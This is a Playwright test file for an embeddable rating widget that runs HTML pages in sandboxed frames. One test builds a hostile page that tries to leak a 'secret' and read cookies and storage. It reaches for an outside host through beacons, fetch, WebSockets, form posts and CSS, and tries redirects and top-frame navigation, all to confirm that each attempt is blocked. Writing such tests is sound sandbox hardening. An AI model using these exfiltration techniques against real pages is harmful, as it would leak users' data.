import { join } from "node:path";

import { pageWith } from "./support/host.js";
import { makeStudy } from "./support/study.js";
import { expect, test } from "./support/test.js";
import { Widget } from "./support/widget.js";

/** What embeds the widget and wants to be safe from it. */
const STRICT = `default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' blob: data:; media-src blob:;
  connect-src 'self'; worker-src 'self' blob:; frame-src 'self'; base-uri 'none'; form-action 'none'`.replaceAll(/\s+/g, " ");

/** The page of an option, inside its frame's frame. */
const inside = (option) => option.frameLocator("iframe").frameLocator("iframe");

const html = (page) => () => ({ extension: "html", bytes: page });

const APP = `<!doctype html><title>App</title><style>p { color: rgb(1, 2, 3) }</style>
  <p id="count">0</p><button onclick="count.textContent = Number(count.textContent) + 1">More</button>
  <a href="#below">Below</a><div style="height: 3000px"></div><p id="below">The end</p>
  <script>document.body.dataset.ran = new Function("return document.compatMode")()</script>`;

/** Its scripts, styles and links within it work, and it begins anew when it is reloaded. */
async function expectApp(option) {
  const reload = option.getByRole("button", { name: "Reload" });
  // Until it is there, what tells that the page loads covers it.
  await expect(reload).toBeVisible();
  const page = inside(option);
  const count = page.locator("#count");
  await expect(page.locator("body")).toHaveAttribute("data-ran", "CSS1Compat");
  await expect(count).toHaveCSS("color", "rgb(1, 2, 3)");
  // The browser may not find what a frame that has just come shows under the pointer.
  await expect(async () => {
    await page.getByRole("button", { name: "More" }).click();
    await expect(count).not.toHaveText("0", { timeout: 500 });
  }).toPass();
  await page.getByRole("link", { name: "Below" }).click();
  await expect(page.getByText("The end")).toBeInViewport();
  await reload.click();
  await expect(count).toHaveText("0");
}

test("a page of one file runs in its frame, and can be reloaded", async ({ open, widget }) => {
  await open({ medium: html(APP), k: 2, models: 2 });
  for (const letter of ["A", "B"]) await expectApp(widget.option(letter));
});

test("it runs where the page around it allows no inline scripts", async ({ page, folder, host, widget }) => {
  await makeStudy(join(folder, "study"), { sync: [], medium: html(APP), k: 2, models: 2 });
  const site = await host({ "/": pageWith(`<k-sort src="study/study.json" rater="ada"></k-sort>`), "/study/": join(folder, "study") }, { policy: STRICT });
  await page.goto(site.url);
  await widget.at(1);
  await expectApp(widget.option("A"));
});

test.describe("where the page around it allows no frames", () => {
  test.use({ expectedErrors: /Framing .* violates|frame-src/ });

  test("the panel says so", async ({ page, folder, host }) => {
    await page.clock.install();
    await makeStudy(join(folder, "study"), { sync: [], medium: html(APP), k: 2, models: 2 });
    const policy = STRICT.replace("frame-src 'self'", "frame-src 'none'");
    const site = await host({ "/": pageWith(`<k-sort src="study/study.json" rater="ada"></k-sort>`), "/study/": join(folder, "study") }, { policy });
    await page.goto(site.url);
    const widget = new Widget(page.locator("k-sort"));
    await widget.at(1);
    await expect(widget.options.locator("iframe")).toHaveCount(2);
    await page.clock.fastForward(20_000);
    await expect(widget.options.getByText("pages in frames are not allowed here")).toHaveCount(2);
  });
});

test.describe("a page that tries to reach out", () => {
  test.use({ expectedErrors: /.*/ });

  test("gets nothing", async ({ page, context, folder, serve, host, widget }) => {
    const outside = await host();
    const other = (what) => `${outside.url}${what}`;
    const opened = [];
    context.on("page", (popup) => opened.push(popup.url()));
    const hostile = (server) => `<!doctype html><body><p>Page</p>
      <link rel="stylesheet" href="${other("leak.css")}"><link rel="prefetch" href="${other("leak-prefetch")}"><link rel="icon" href="${other("leak.ico")}">
      <img src="${other("leak.png")}"><img src="${server}leak.png"><img src="/leak.png"><script src="${other("leak.js")}"></script>
      <iframe src="${other("leak-frame")}"></iframe><video src="${other("leak.mp4")}"></video><object data="${other("leak.swf")}"></object>
      <style>@import "${other("leak-import.css")}"; @font-face { font-family: f; src: url("${other("leak.woff")}") } p { font-family: f; background: url("${other("leak-background.png")}") }</style>
      <form action="${other("leak-form")}" method="post" target="_top"><input name="secret"></form>
      <script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["${other("leak-speculation")}"], "eagerness": "immediate"}]}</script>
      <script>
        const found = {};
        const attempt = async (name, act) => {
          try { found[name] = String(await act()); } catch (error) { found[name] = error.name; }
        };
        const tried = Promise.all([
          attempt("parent", () => parent.document.body),
          attempt("top", () => top.document.title),
          attempt("address", () => top.location.href),
          attempt("frame", () => parent.location.href),
          attempt("cookie", () => document.cookie),
          attempt("local storage", () => localStorage.length),
          attempt("session storage", () => sessionStorage.length),
          attempt("database", () => indexedDB.open("k-sort")),
          attempt("caches", () => caches.keys()),
          attempt("worker", () => navigator.serviceWorker.register("sw.js")),
          attempt("fetch", () => fetch("${server}api/votes?study=e2e")),
          attempt("fetch elsewhere", () => fetch("${other("leak-fetch")}", { mode: "no-cors" })),
          attempt("open", () => open("${other("leak-open")}")),
          attempt("leave", () => { top.location = "${other("leak-top")}"; return "tried"; }),
          attempt("navigate the frame", () => { parent.location = "${other("leak-parent")}"; return "tried"; }),
          attempt("send", () => new Promise((resolve) => {
            const request = new XMLHttpRequest();
            request.onloadend = () => resolve(request.status);
            request.open("POST", "${server}api/votes");
            request.send("{}");
          })),
        ]);
        navigator.sendBeacon("${other("leak-beacon")}", "secret");
        new WebSocket("${other("leak-socket").replace("http", "ws")}");
        new EventSource("${other("leak-events")}");
        document.forms[0].submit();
        history.back();
        alert("hello");
        tried.then(() => { const p = document.createElement("output"); p.textContent = JSON.stringify(found); document.body.append(p); });
      </script>`;
    const study = await makeStudy(join(folder, "study"), { medium: html(""), models: 2, k: 2, items: 1 });
    const server = await serve(study.folder);
    await makeStudy(join(folder, "study"), { medium: html(hostile(server.url)), models: 2, k: 2, items: 1 });
    await page.goto("about:blank");
    await page.goto(server.page({ rater: "r1" }));
    await widget.at(1);
    const output = inside(widget.option("A")).locator("output");
    await expect(output).toBeAttached();
    expect(JSON.parse(await output.textContent())).toEqual({
      "parent": "SecurityError",
      "top": "SecurityError",
      "address": "SecurityError",
      "frame": "SecurityError",
      "cookie": "SecurityError",
      "local storage": "SecurityError",
      "session storage": "SecurityError",
      "database": "SecurityError",
      "caches": "SecurityError",
      "worker": "SecurityError",
      "fetch": "TypeError",
      "fetch elsewhere": "TypeError",
      "open": "null",
      "leave": expect.stringMatching(/tried|SecurityError/),
      "navigate the frame": "SecurityError",
      "send": "0",
    });
    expect(page.url()).toBe(server.page({ rater: "r1" }));
    expect(opened).toEqual([]);
    // A request that is refused may be told, but never arrives.
    expect(outside.asked).toEqual([]);
    expect(await server.votes(study.id)).toEqual([]);
    await expect(widget.option("B").locator("iframe")).toBeVisible();
  });

  for (const [how, code] of Object.entries({
    "at once": (url) => `location.href = "${url}"`,
    "later": (url) => `setTimeout(() => location.assign("${url}"), 200)`,
    "by a refresh": (url) => `document.head.innerHTML = '<meta http-equiv="refresh" content="0; url=${url}">'`,
  })) {
    test(`is taken away where it leads elsewhere ${how}, and the study goes on`, async ({ open, widget, host }) => {
      const outside = await host();
      const leaves = `<!doctype html><p>Page</p><script>${code(`${outside.url}leak`)}</script>`;
      const medium = (model) => ({ extension: "html", bytes: model === 0 ? leaves : "<p>Quiet" });
      await open({ medium, models: 2, k: 2 });
      await expect(widget.options.getByText("the page tried to lead elsewhere")).toBeVisible();
      await expect(widget.options.locator("iframe")).toHaveCount(1);
      expect(outside.asked).toEqual([]);
      await widget.button("Both bad").or(widget.button("All bad")).click();
      await widget.at(2);
    });
  }
});

test("a page that takes the focus as it begins does not take the rater's keys", async ({ page, open, widget }) => {
  await open({ medium: html("<input><script>document.querySelector('input').focus()</script>"), models: 2, k: 2 });
  for (const letter of ["A", "B"]) await expect(inside(widget.option(letter)).locator("input")).toBeVisible();
  await expect.poll(() => page.evaluate(() => document.querySelector("k-sort").shadowRoot.activeElement?.localName)).not.toBe("iframe");
  await page.keyboard.press("b");
  await expect(widget.radio("B", 1)).toBeChecked();
});

test.describe("a file that is no page", () => {
  test("says so, and the study goes on", async ({ open, widget }) => {
    const medium = (model) => ({ extension: "html", bytes: model === 0 ? Buffer.from([0x3c, 0xff, 0xfe, 0x00]) : "<p>Page" });
    await open({ medium, models: 2, k: 2 });
    await expect(widget.options.getByText(/it is not text in UTF-8/i)).toBeVisible();
    await widget.button("All bad").click();
    await widget.at(2);
  });
});

test("the frame's own file is kept in a sandbox by the server, wherever it is opened", async ({ open, page }) => {
  const { server } = await open({ medium: html("<p>Page"), models: 2, k: 2 });
  const response = await page.goto(`${server.url}panels/frame.html`);
  expect(response.headers()["content-security-policy"]).toBe("sandbox allow-scripts");
  expect(await page.evaluate(() => window.origin)).toBe("null");
});
